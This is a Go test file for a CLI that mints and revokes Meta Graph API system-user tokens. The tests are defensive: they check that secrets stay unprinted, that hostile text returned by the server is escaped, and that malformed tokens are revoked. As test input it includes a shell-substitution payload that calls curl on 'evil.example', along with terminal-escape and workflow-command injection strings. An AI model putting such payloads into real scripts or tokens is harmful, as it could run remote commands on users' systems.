package main

import (
	"strings"
	"testing"
	"time"

	"github.com/metamint/metamint/pkg/mint"
	"github.com/metamint/metamint/pkg/mint/minttest"
)

func mintCmd(fx minttest.Fixture, extra ...string) []string {
	return append([]string{"mint", "--app-id", fx.AppID, "--system-user-id", fx.SystemUserID, "--scopes", "ads_read,business_management"}, extra...)
}

// TestMintTwoApps: an admin token of another app mints for --app-id with
// METAMINT_MINTING_APP_SECRET keying the proofs, and the new token is
// revoked with itself as the caller.
func TestMintTwoApps(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const mintingID, mintingSecret = "200000000000099", "CANARYmintingSECRET0000000099"
	w.s.AddApp(minttest.App{ID: mintingID, Name: "Minting", Secret: mintingSecret, BusinessID: w.fx.BusinessID})
	caller := w.s.IssueToken(minttest.TokenSpec{UserID: w.fx.AdminSystemUserID, AppID: mintingID, Scopes: []string{"business_management"}})
	env := w.env()
	env[envAccessToken] = caller

	r := runCLI(t, env, "", mintCmd(w.fx, "--install-app")...)
	if r.code != 1 || !strings.Contains(r.stderr, "METAMINT_MINTING_APP_SECRET") {
		t.Fatalf("mint without METAMINT_MINTING_APP_SECRET = %d, stderr %q; want 1 and a hint naming the variable", r.code, r.stderr)
	}
	env[envMintingAppSecret] = mintingSecret
	r = runCLI(t, env, "", mintCmd(w.fx, "--install-app")...)
	if r.code != 0 {
		t.Fatalf("mint = %d, stderr %q; want 0", r.code, r.stderr)
	}
	for _, sec := range []string{mintingSecret, hmacHex(mintingSecret, caller)} {
		if strings.Contains(r.stderr+r.stdout, sec) {
			t.Errorf("output holds the minting app's secret or proof")
		}
	}
	tok := strings.TrimSpace(r.stdout)
	env[envToken] = tok
	if r := runCLI(t, env, "", "revoke", "--app-id", w.fx.AppID); r.code != 0 {
		t.Fatalf("revoke = %d, stderr %q", r.code, r.stderr)
	}
	if st, _ := w.s.Token(tok); !st.Revoked {
		t.Errorf("token not revoked")
	}
}

// TestMintWarnsOfExpiringCaller: mint inspects the calling token beside the
// mint and warns when it expires within 15 days.
func TestMintWarnsOfExpiringCaller(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		life time.Duration
		warn bool
	}{{10 * 24 * time.Hour, true}, {30 * 24 * time.Hour, false}} {
		w := newWorld(t)
		w.s.InstallApp(w.fx.SystemUserID, w.fx.AppID)
		env := w.env()
		env[envAccessToken] = w.s.IssueToken(minttest.TokenSpec{UserID: w.fx.AdminSystemUserID, AppID: w.fx.AppID,
			Scopes: []string{"business_management"}, ExpiresAt: w.s.Now().Add(tt.life)})
		r := runCLI(t, env, "", mintCmd(w.fx)...)
		if r.code != 0 {
			t.Fatalf("mint = %d, stderr %q", r.code, r.stderr)
		}
		got := strings.Contains(r.stderr, "warning: the calling token ($METAMINT_ACCESS_TOKEN) expires") &&
			strings.Contains(r.stderr, "metamint renew") && strings.Contains(r.stderr, "docs/renew.md")
		if got != tt.warn {
			t.Errorf("caller expiring in %s: warning = %v; want %v\nstderr: %s", tt.life, got, tt.warn, r.stderr)
		}
	}
}

// TestHostileGraphCLI: control characters from Graph never reach the
// terminal raw, a token with a newline is never printed and ends revoked,
// and a huge input is not echoed whole.
func TestHostileGraphCLI(t *testing.T) {
	t.Parallel()
	const hostile = "\x1b]0;pwned\x07\x1b[2J\u202e\r\nINJECTED"
	t.Run("system user names", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t)
		w.s.AddSystemUser(minttest.SystemUser{ID: "400000000000099", BusinessID: w.fx.BusinessID, Name: "evil" + hostile})
		r := runCLI(t, w.env(), "", "system-users", "--business-id", w.fx.BusinessID)
		if r.code != 0 {
			t.Fatalf("system-users = %d, stderr %q", r.code, r.stderr)
		}
		if strings.ContainsAny(r.stdout, "\x1b\x07\r\u202e") || strings.Contains(r.stdout, "\nINJECTED") {
			t.Errorf("stdout = %q; want control characters escaped and the name on one line", r.stdout)
		}
		if !strings.Contains(r.stdout, `evil\u001b]0;pwned\u0007`) {
			t.Errorf("stdout = %q; want the name with its control characters shown escaped", r.stdout)
		}
	})
	t.Run("token with a newline", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t)
		w.s.InstallApp(w.fx.SystemUserID, w.fx.AppID)
		const tok = "EAA\n::warning::INJECTED"
		w.s.MintNextAs(tok)
		r := runCLI(t, w.env(), "", mintCmd(w.fx)...)
		if r.code != 1 || r.stdout != "" || !strings.Contains(r.stderr, "it was revoked") {
			t.Errorf("mint = %d, stdout %q, stderr %q; want 1, nothing printed, and the token revoked", r.code, r.stdout, r.stderr)
		}
		if st, ok := w.s.Token(tok); !ok || !st.Revoked {
			t.Errorf("hostile token = %+v; want it revoked", st)
		}
	})
	t.Run("inspect names and assets", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t)
		w.s.AssignAssets(w.fx.SystemUserID, "ads_read", "act_1", "act_2")
		env := w.env()
		env[envToken] = w.issue(0)
		r := runCLI(t, env, "", "inspect", "--app-id", w.fx.AppID)
		if r.code != 0 || !strings.Contains(strings.Join(strings.Fields(r.stdout), " "), "assets of ads_read act_1, act_2") {
			t.Errorf("inspect = %d, stdout %q; want the assets ads_read reaches", r.code, r.stdout)
		}
		r = runCLI(t, env, "", "inspect", "--app-id", w.fx.AppID, "--json")
		info := stdoutJSON[mint.TokenInfo](t, r)
		if len(info.GranularScopes) != 1 || info.GranularScopes[0].Scope != "ads_read" || strings.Join(info.GranularScopes[0].TargetIDs, ",") != "act_1,act_2" {
			t.Errorf("inspect --json granular_scopes = %+v; want ads_read reaching act_1, act_2", info.GranularScopes)
		}
	})
	t.Run("huge scope", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t)
		r := runCLI(t, w.env(), "", "mint", "--app-id", w.fx.AppID, "--system-user-id", w.fx.SystemUserID, "--scopes", "ads_read,"+strings.Repeat("z", 127<<10))
		if r.code != 1 || len(r.stderr) > 1000 || !strings.Contains(r.stderr, "bytes that is not shown") {
			t.Errorf("mint with a 127 KiB scope = %d, %d bytes of stderr; want 1 and a short quote", r.code, len(r.stderr))
		}
	})
}

// TestMintRefusesEchoedCaller has Graph answer the calling token itself as
// the new token, which then fails the check (it is the admin's, not the
// system user's): mint refuses it, never prints it and never revokes it.
func TestMintRefusesEchoedCaller(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.s.InstallApp(w.fx.SystemUserID, w.fx.AppID)
	env := w.env()
	caller := env[envAccessToken]
	w.s.FailNext(minttest.EndpointAccessTokens, minttest.Fault{Status: 200, Body: []byte(`{"access_token":"` + caller + `"}`)})
	r := runCLI(t, env, "", mintCmd(w.fx)...)
	if r.code != 1 || !strings.Contains(r.stderr, "the calling token itself") {
		t.Fatalf("mint = %d, stderr %q; want 1 and the echoed calling token refused", r.code, r.stderr)
	}
	if r.stdout != "" || strings.Contains(r.stderr, caller) {
		t.Errorf("mint printed the calling token: stdout %q, stderr %q", r.stdout, r.stderr)
	}
	if st, _ := w.s.Token(caller); st.Revoked {
		t.Errorf("the calling token was revoked")
	}
	for _, req := range w.s.Requests() {
		if req.Endpoint == minttest.EndpointRevoke || req.Endpoint == minttest.EndpointRevokeAll {
			t.Errorf("mint sent %s %s; want no revocation", req.Method, req.Path)
		}
	}
}

// TestMintCheckHostileText: debug_token answers for the new token an
// app_id, user_id or error.message with an ESC sequence, line breaks and
// workflow commands. None of it reaches stderr raw.
func TestMintCheckHostileText(t *testing.T) {
	t.Parallel()
	const hostile = `"1\u001b[31m\n::warning::INJECTED\r\n"`
	for name, data := range map[string]string{
		"app_id and user_id": `{"data":{"is_valid":true,"type":"SYSTEM_USER","scopes":["ads_read","business_management"],"app_id":` + hostile + `,"user_id":` + hostile + `}}`,
		"error.message":      `{"data":{"is_valid":false,"scopes":[],"error":{"code":190,"message":` + hostile + `}}}`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.s.InstallApp(w.fx.SystemUserID, w.fx.AppID)
			w.s.FailNext(minttest.EndpointDebugToken, minttest.Fault{}) // the calling token's check
			w.s.FailNext(minttest.EndpointDebugToken, minttest.Fault{Status: 200, Body: []byte(data)})
			r := runCLI(t, w.env(), "", mintCmd(w.fx)...)
			if r.code != 1 || !strings.Contains(r.stderr, "checking the token with debug_token") {
				t.Fatalf("mint = %d, stderr %q; want 1 and the check failed", r.code, r.stderr)
			}
			if strings.Contains(r.stderr, "\x1b") || strings.Contains(r.stderr, "\n::warning::") || strings.Contains(r.stderr, "\r") {
				t.Errorf("stderr = %q; want Graph's text escaped", r.stderr)
			}
		})
	}
}

// TestInspectJSONFarExpiry: a debug_token answer with an expiry past year
// 9999 (Unix seconds are not bounded) is printed by inspect --json as it
// always was, not refused.
func TestInspectJSONFarExpiry(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.s.InstallApp(w.fx.SystemUserID, w.fx.AppID)
	env := w.env()
	env[envToken] = w.s.IssueToken(minttest.TokenSpec{UserID: w.fx.SystemUserID, AppID: w.fx.AppID, Scopes: []string{"ads_read"},
		ExpiresAt: time.Unix(300_000_000_000, 0)})
	r := runCLI(t, env, "", "inspect", "--app-id", w.fx.AppID, "--json")
	if r.code != 0 || !strings.Contains(r.stdout, `"expires_at": "11476-08-15T05:20:00Z"`) {
		t.Errorf("inspect --json = %d, stdout %q, stderr %q; want 0 and expires_at 11476-08-15T05:20:00Z", r.code, r.stdout, r.stderr)
	}
}

// TestNewTokenIsABearerToken: a script may put the printed token where a
// shell reads it again (eval, a GitHub secret a workflow substitutes into a
// script). A new token from mint or refresh that does not have a Bearer
// token's syntax (RFC 6750) is refused: nothing is printed, it is revoked,
// and the exit status is 1.
func TestNewTokenIsABearerToken(t *testing.T) {
	t.Parallel()
	const hostile = "EAA$(curl${IFS}evil.example)"
	for _, command := range []string{"mint", "refresh"} {
		t.Run(command, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			env := w.env()
			args := mintCmd(w.fx, "--install-app")
			if command == "refresh" {
				env[envToken] = w.issue(dueLife)
				args = []string{"refresh", "--app-id", w.fx.AppID}
			}
			w.s.MintNextAs(hostile)
			r := runCLI(t, env, "", args...)
			if r.code != exitError || r.stdout != "" {
				t.Fatalf("%s answered %q = %d, stdout %q; want %d and nothing printed\n%s", command, hostile, r.code, r.stdout, exitError, r.stderr)
			}
			if !strings.Contains(r.stderr, "not a Bearer token") || !strings.Contains(r.stderr, "revoked the new token") {
				t.Errorf("stderr = %q; want the token refused as no Bearer token, and revoked", r.stderr)
			}
			if st, ok := w.s.Token(hostile); !ok || !st.Revoked {
				t.Errorf("the refused token: known %v, revoked %v; want it revoked", ok, st.Revoked)
			}
		})
	}
}
